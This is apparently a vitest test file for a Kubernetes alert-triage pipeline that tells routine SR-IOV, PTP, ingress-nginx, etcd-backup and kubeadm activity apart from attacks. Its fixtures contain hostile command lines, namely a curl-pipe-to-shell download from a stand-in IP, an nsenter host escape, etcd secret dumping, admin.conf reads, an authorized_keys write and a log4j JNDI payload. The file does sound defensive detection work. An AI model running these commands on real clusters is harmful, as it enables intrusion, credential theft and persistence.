/**
 * Context found in the telco-multus-controlplane validation scenario, as rule tables: SR-IOV, PTP, NFD and
 * ingress-nginx doing their documented work on a kubeadm cluster — with the traps each must not fall into (a naked
 * look-alike of the SR-IOV daemon, a descriptor of another process loaded by the ingress controller's nginx).
 */
import { describe, expect, it } from 'vitest';
import type { ProcessInfo } from '../../../src/alerts/model.js';
import { buildIndex } from '../../../src/cluster/index.js';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { alert, containerIdOf, node, owner, pod, snapshot } from '../../support/cluster.js';

const W3 = 'tc-wk-03';
const CP = 'tc-cp-b';
const T = (hms: string) => `2027-03-11T${hms}.000Z`;
const DAEMON_IMG = 'quay.io/openshift/origin-sriov-network-config-daemon:4.16';
const NS = 'sriov-network-operator';

const daemonDs = owner('DaemonSet', 'sriov-network-config-daemon', NS);
const daemon = pod('sriov-network-config-daemon-c75gq', {
  namespace: NS,
  node: W3,
  hostNetwork: true,
  hostPID: true,
  owner: { kind: 'DaemonSet', name: 'sriov-network-config-daemon' },
  containers: [{ name: 'sriov-network-config-daemon', image: DAEMON_IMG, command: ['sriov-network-config-daemon'], args: ['start'], securityContext: { privileged: true } }],
  volumes: [{ name: 'host', hostPath: { path: '/' } }],
});
// The same image in the same namespace, but a naked pod pinned to a control-plane node: not the operator's daemon.
const lookalike = pod('sriov-config-daemon-9gq4t', {
  namespace: NS,
  node: CP,
  hostNetwork: true,
  hostPID: true,
  containers: [{ name: 'sriov-network-config-daemon', image: DAEMON_IMG, command: ['/bin/sh', '-c', 'sleep infinity'], securityContext: { privileged: true } }],
  volumes: [{ name: 'host', hostPath: { path: '/' } }],
});
const ptpDs = owner('DaemonSet', 'linuxptp-daemon', 'ptp');
const ptp = pod('linuxptp-daemon-gdf5z', {
  namespace: 'ptp',
  node: W3,
  hostNetwork: true,
  owner: { kind: 'DaemonSet', name: 'linuxptp-daemon' },
  containers: [{ name: 'linuxptp-daemon-container', image: 'quay.io/openshift/origin-ptp:4.16', command: ['/bin/bash', '-c', '--'], args: ['/usr/local/bin/ptp --alsologtostderr -v 10'], securityContext: { privileged: true } }],
});
const ingRs = owner('ReplicaSet', 'ingress-nginx-controller-7d9f8', 'ingress-nginx', { kind: 'Deployment', name: 'ingress-nginx-controller' });
const ingDep = owner('Deployment', 'ingress-nginx-controller', 'ingress-nginx');
const ing = pod('ingress-nginx-controller-7d9f8-7kkkj', {
  namespace: 'ingress-nginx',
  node: W3,
  ip: '10.244.5.40',
  owner: { kind: 'ReplicaSet', name: 'ingress-nginx-controller-7d9f8' },
  containers: [{ name: 'controller', image: 'registry.k8s.io/ingress-nginx/controller:v1.11.2', args: ['/nginx-ingress-controller', '--election-id=ingress-nginx-leader'] }],
});

const index = buildIndex([snapshot([node(W3, '10.60.0.23'), node(CP, '10.60.0.12'), daemonDs, daemon, lookalike, ptpDs, ptp, ingDep, ingRs, ing])]);
const verdict = (a: ReturnType<typeof alert>) => triageAlert(a, { index }).verdict;
const inPod = (p: typeof daemon) => ({ pod: p.metadata.name, namespace: p.metadata.namespace, id: containerIdOf(p), name: p.spec.containers[0].name, image: p.spec.containers[0].image });
const DAEMON: ProcessInfo = { name: 'sriov-network-config-daemon', path: '/usr/bin/sriov-network-config-daemon', commandLine: '/usr/bin/sriov-network-config-daemon start' };
const CONTROLLER: ProcessInfo = { name: 'nginx-ingress-controller', path: '/nginx-ingress-controller', commandLine: '/nginx-ingress-controller --election-id=ingress-nginx-leader' };
const NGINX_TEST: ProcessInfo = { name: 'nginx', path: '/usr/bin/nginx', commandLine: '/usr/bin/nginx -c /tmp/nginx/nginx-cfg3324587123 -t' };

describe('the SR-IOV config daemon preparing VFs', () => {
  const modprobe = (p: typeof daemon, module: string, parent: ProcessInfo = DAEMON) =>
    alert({ host: p.spec.nodeName, time: T('00:41:20'), container: inPod(p), process: { name: 'chroot', path: '/usr/sbin/chroot', commandLine: `/usr/sbin/chroot /host modprobe ${module}` }, ancestors: [parent] });
  it('chroot /host modprobe vfio-pci by the DaemonSet pod is its work', () => {
    expect(verdict(modprobe(daemon, 'vfio-pci')).label).toBe('likely-false-positive');
  });
  it('trap: the same command in a naked look-alike pod (same image and namespace) stays an escape', () => {
    expect(verdict(modprobe(lookalike, 'vfio-pci', { name: 'sh', path: '/bin/sh', commandLine: '/bin/sh -c sleep infinity' }))).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
  it('trap: an interactive shell of the look-alike entering the host with nsenter', () => {
    const a = alert({ host: CP, time: T('03:31:47'), container: inPod(lookalike), process: { name: 'nsenter', path: '/usr/bin/nsenter', commandLine: '/usr/bin/nsenter -t 1 -m -u -n -i -p -- /bin/bash' } });
    expect(verdict(a)).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
});

describe('ingress-nginx: its own config test, and the admission-webhook RCE (CVE-2025-1974)', () => {
  it('nginx -t started by the controller is the controller at work', () => {
    const a = alert({ host: W3, time: T('02:10:03'), container: inPod(ing), process: NGINX_TEST, ancestors: [CONTROLLER] });
    expect(verdict(a).label).toBe('likely-false-positive');
  });
  it("trap: the same nginx -t opening another process's descriptor /proc/<pid>/fd/<n> (the uploaded shared object)", () => {
    const a = alert({ host: W3, time: T('03:08:44'), container: inPod(ing), process: NGINX_TEST, ancestors: [CONTROLLER], file: '/proc/31/fd/27' });
    expect(verdict(a)).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
  it("a process's own descriptors (/proc/self/fd, /dev/fd) are not that indicator", () => {
    const a = alert({ host: W3, time: T('02:10:03'), container: inPod(ing), process: NGINX_TEST, ancestors: [CONTROLLER], file: '/proc/self/fd/3' });
    expect(verdict(a).label).toBe('likely-false-positive');
  });
});

describe('linuxptp: ptp4l and phc2sys under the PTP daemon', () => {
  it('ptp4l opening a packet socket in the linuxptp DaemonSet pod', () => {
    const a = alert({ host: W3, time: T('04:02:44'), title: 'packet-sockets: security_socket_create (AF_PACKET, SOCK_RAW)', container: inPod(ptp), process: { name: 'ptp4l', path: '/usr/sbin/ptp4l' } });
    expect(verdict(a).label).toBe('likely-false-positive');
  });
  it('trap: a shell in the PTP pod downloading a script', () => {
    const a = alert({ host: W3, time: T('04:02:44'), container: inPod(ptp), process: { name: 'sh', path: '/bin/sh', commandLine: 'sh -c curl -s http://203.0.113.9/p.sh | sh' } });
    expect(verdict(a)).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
});

describe('a program of a privileged component doing its privileged work (not the entrypoint)', () => {
  it('trap: a program the component does not run, opening a packet socket in the same pod', () => {
    const a = alert({ host: W3, time: T('04:02:44'), title: 'packet-sockets: security_socket_create (AF_PACKET, SOCK_RAW)', container: inPod(ptp), process: { name: 'python3', path: '/usr/bin/python3' } });
    expect(verdict(a).label).toBe('genuine');
  });
  it('trap: ptp4l in the naked SR-IOV look-alike (no PTP component there)', () => {
    const a = alert({ host: CP, time: T('04:02:44'), title: 'packet-sockets: security_socket_create (AF_PACKET, SOCK_RAW)', container: inPod(lookalike), process: { name: 'ptp4l', path: '/usr/sbin/ptp4l' } });
    expect(verdict(a).label).toBe('genuine');
  });
});

describe('a host credential the workload spec declares (etcd backup CronJob)', () => {
  const CP_A = 'tc-cp-a';
  const KEY = '/etc/kubernetes/pki/etcd/healthcheck-client.key';
  const SCRIPT = `ETCDCTL_API=3 etcdctl --endpoints=https://127.0.0.1:2379 --cacert=/etc/kubernetes/pki/etcd/ca.crt --cert=/etc/kubernetes/pki/etcd/healthcheck-client.crt --key=${KEY} snapshot save /backup/etcd-snapshot-$(date +%Y%m%d-%H%M).db && find /backup -name 'etcd-snapshot-*.db' -mtime +3 -delete`;
  const spec = () => ({
    node: CP_A,
    namespace: 'kube-system',
    hostNetwork: true,
    containers: [
      {
        name: 'etcd-backup',
        image: 'registry.k8s.io/etcd:3.5.15-0',
        command: ['/bin/sh', '-c', SCRIPT],
        volumeMounts: [
          { name: 'etcd-certs', mountPath: '/etc/kubernetes/pki/etcd', readOnly: true },
          { name: 'backup', mountPath: '/backup' },
        ],
      },
    ],
    volumes: [
      { name: 'etcd-certs', hostPath: { path: '/etc/kubernetes/pki/etcd' } },
      { name: 'backup', hostPath: { path: '/var/backups/etcd' } },
    ],
  });
  const cron = owner('CronJob', 'etcd-backup', 'kube-system');
  const job = owner('Job', 'etcd-backup-30078720', 'kube-system', { kind: 'CronJob', name: 'etcd-backup' });
  const backup = pod('etcd-backup-30078720-qgw5s', { ...spec(), owner: { kind: 'Job', name: 'etcd-backup-30078720' } });
  const bare = pod('etcd-backup-manual', spec());
  const mirror = pod('etcd-backup-tc-cp-a', { ...spec(), owner: { kind: 'Node', name: CP_A } });
  mirror.metadata.annotations = { 'kubernetes.io/config.mirror': 'x', 'kubernetes.io/config.source': 'file' };
  const idx = buildIndex([snapshot([node(CP_A, '10.60.0.11'), cron, job, backup, bare, mirror])]);
  const judge = (p: typeof backup, process: ProcessInfo, file?: string) =>
    triageAlert(alert({ host: CP_A, time: T('00:00:03'), container: inPod(p), process, ancestors: [{ name: 'sh', path: '/bin/sh', commandLine: `/bin/sh -c ${SCRIPT}` }], file }), { index: idx }).verdict;
  const ETCDCTL: ProcessInfo = {
    name: 'etcdctl',
    path: '/usr/local/bin/etcdctl',
    commandLine: `/usr/local/bin/etcdctl --endpoints=https://127.0.0.1:2379 --cacert=/etc/kubernetes/pki/etcd/ca.crt --cert=/etc/kubernetes/pki/etcd/healthcheck-client.crt --key=${KEY} snapshot save /backup/etcd-snapshot-20270311-0000.db`,
  };

  it('the declared snapshot step with the declared key, in the CronJob pod', () => {
    expect(judge(backup, ETCDCTL).label).toBe('likely-false-positive');
    expect(judge(backup, ETCDCTL, KEY).label).toBe('likely-false-positive');
  });
  it('a file event naming only the program (no command line): the step that runs it names the key', () => {
    const v = triageAlert(alert({ host: CP_A, time: T('06:00:03'), container: inPod(backup), process: { name: 'etcdctl', path: '/usr/local/bin/etcdctl' }, file: KEY }), { index: idx }).verdict;
    expect(v).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
  it('trap: etcdctl reading /registry/secrets with the server key in the same pod', () => {
    const read: ProcessInfo = { name: 'etcdctl', path: '/usr/local/bin/etcdctl', commandLine: 'etcdctl --cert=/etc/kubernetes/pki/etcd/server.crt --key=/etc/kubernetes/pki/etcd/server.key get /registry/secrets --prefix' };
    expect(judge(backup, read)).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
  it('trap: a credential the spec does not name, read by the same program', () => {
    const v = triageAlert(alert({ host: CP_A, time: T('00:00:03'), container: inPod(backup), process: { name: 'etcdctl', path: '/usr/local/bin/etcdctl' }, file: '/etc/kubernetes/admin.conf' }), { index: idx }).verdict;
    expect(v.label).toBe('genuine');
  });
  it('trap: the same spec in a bare pod or a static pod', () => {
    expect(judge(bare, ETCDCTL)).toMatchObject({ label: 'genuine', cause: 'attack' });
    expect(judge(mirror, ETCDCTL)).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
});

describe('kubeadm maintenance on a control-plane host, corroborated by the audit log', () => {
  const CP_A = 'tc-cp-a';
  const CP_C = 'tc-cp-c';
  const s = snapshot([node(CP_A, '10.60.0.11'), node(CP_C, '10.60.0.13')]);
  s.auditActivities = [
    { time: T('01:04:12'), user: 'kubernetes-admin', groups: ['kubeadm:cluster-admins'], verb: 'get', resource: 'configmaps', namespace: 'kube-system', name: 'kubeadm-config', sourceIps: ['10.60.0.11'], userAgent: 'kubeadm/v1.30.6 (linux/amd64) kubernetes/00f20d4', code: 200 },
  ];
  const idx = buildIndex([s]);
  const judge = (host: string, time: string, process: ProcessInfo, file?: string, ancestors: ProcessInfo[] = [{ name: 'bash', path: '/usr/bin/bash' }]) =>
    triageAlert(alert({ host, time: T(time), process, ancestors, file }), { index: idx }).verdict;
  const KUBEADM: ProcessInfo = { name: 'kubeadm', path: '/usr/bin/kubeadm', commandLine: '/usr/bin/kubeadm certs renew all' };
  const MV: ProcessInfo = { name: 'mv', path: '/usr/bin/mv' };

  it('kubeadm certs renew on the host, with kubeadm API calls from that node', () => {
    expect(judge(CP_A, '01:04:12', KUBEADM)).toMatchObject({ label: 'likely-false-positive', cause: 'admin-activity' });
  });
  it('kubeadm rewriting its own certificate (a credential path) in that window', () => {
    expect(judge(CP_A, '01:04:13', { name: 'kubeadm', path: '/usr/bin/kubeadm' }, '/etc/kubernetes/pki/apiserver.crt')).toMatchObject({ label: 'likely-false-positive', cause: 'admin-activity' });
  });
  it("a kubeadm manifest moved back into the static-pod directory (restart), minutes after kubeadm's calls", () => {
    expect(judge(CP_A, '01:06:05', MV, '/etc/kubernetes/manifests/kube-apiserver.yaml').label).toBe('likely-false-positive');
  });
  it('trap: a new manifest written into the static-pod directory in the same window', () => {
    expect(judge(CP_A, '01:06:05', MV, '/etc/kubernetes/manifests/etcd-defrag.yaml')).toMatchObject({ label: 'genuine', cause: 'attack' });
    expect(judge(CP_A, '01:06:05', { name: 'tee', path: '/usr/bin/tee' }, '/etc/kubernetes/manifests/kube-apiserver.yaml')).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
  it('trap: admin.conf read by cat on the host in the same window', () => {
    expect(judge(CP_A, '01:05:00', { name: 'cat', path: '/usr/bin/cat', commandLine: 'cat /etc/kubernetes/admin.conf' }, '/etc/kubernetes/admin.conf')).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
  it('trap: kubeadm on another node (no kubeadm calls from its address), or hours later', () => {
    expect(judge(CP_C, '01:04:12', { name: 'kubeadm', path: '/usr/bin/kubeadm' }, '/etc/kubernetes/pki/apiserver.crt').label).toBe('genuine');
    expect(judge(CP_A, '04:04:12', { name: 'kubeadm', path: '/usr/bin/kubeadm' }, '/etc/kubernetes/pki/apiserver.crt').label).toBe('genuine');
  });
  it('trap: a file kubeadm does not own, written under kubeadm', () => {
    expect(judge(CP_A, '01:04:20', { name: 'sh', path: '/bin/sh', commandLine: 'sh -c echo x >> /root/.ssh/authorized_keys' }, '/root/.ssh/authorized_keys', [KUBEADM]).label).toBe('genuine');
  });
});

describe('exploit signatures on network alerts', () => {
  const smf = pod('smf-1', { namespace: 'cnf-core', node: W3, ip: '10.244.5.23', containers: [{ name: 'smf', image: 'registry.telco.example/5gc/smf:3.4.2', command: ['java'] }] });
  const idx = buildIndex([snapshot([node(W3, '10.60.0.23'), smf])]);
  const judge = (title: string, url?: string) =>
    triageAlert(alert({ time: T('02:45:12'), title, network: { srcIp: '10.60.9.77', srcPort: 51544, dstIp: '10.244.5.23', dstPort: 8080, protocol: 'tcp', url } }), { index: idx }).verdict;
  it('an ET EXPLOIT signature is an attack indicator', () => {
    expect(judge('ET EXPLOIT Apache log4j RCE Attempt (http ldap) (Outbound) (CVE-2021-44228)')).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
  it('a JNDI lookup in the request', () => {
    expect(judge('ET INFO Suspicious request', '/actuator/${jndi:ldap://203.0.113.44:1389/a}')).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
  it('trap: an informational signature naming no exploit is not one', () => {
    expect(judge('ET INFO Observed DNS Query to .cloud TLD').cause).not.toBe('attack');
  });
});

describe("a component's own program when the product names no parent (Tracee)", () => {
  const nginx = (p: typeof ing, name = 'nginx', path = '/usr/bin/nginx') =>
    alert({ host: p.spec.nodeName, time: T('02:10:03'), title: 'ingress-controller-children: sched_process_exec', container: inPod(p), process: { name, path, commandLine: `${path} -c /tmp/nginx/nginx-cfg1 -t` }, ancestors: [{ pid: '7' }] });
  const fakeIng = pod('ingress-nginx-controller-debug', {
    namespace: 'tools',
    node: W3,
    ip: '10.244.5.77',
    containers: [{ name: 'controller', image: 'registry.k8s.io/ingress-nginx/controller:v1.11.2', command: ['sleep', 'infinity'] }],
  });
  const idx = buildIndex([snapshot([node(W3, '10.60.0.23'), ingDep, ingRs, ing, fakeIng])]);
  const judge = (a: ReturnType<typeof alert>) => triageAlert(a, { index: idx }).verdict;
  it('nginx in the ingress-nginx controller pod', () => {
    expect(judge(nginx(ing))).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
  it('trap: a shell or another program in the same pod', () => {
    expect(judge(nginx(ing, 'sh', '/bin/sh')).label).toBe('genuine');
    expect(judge(nginx(ing, 'python3', '/usr/bin/python3')).label).toBe('genuine');
  });
  it('trap: nginx in the controller image run elsewhere (another namespace, no controller)', () => {
    expect(judge(nginx(fakeIng)).label).toBe('genuine');
  });
});
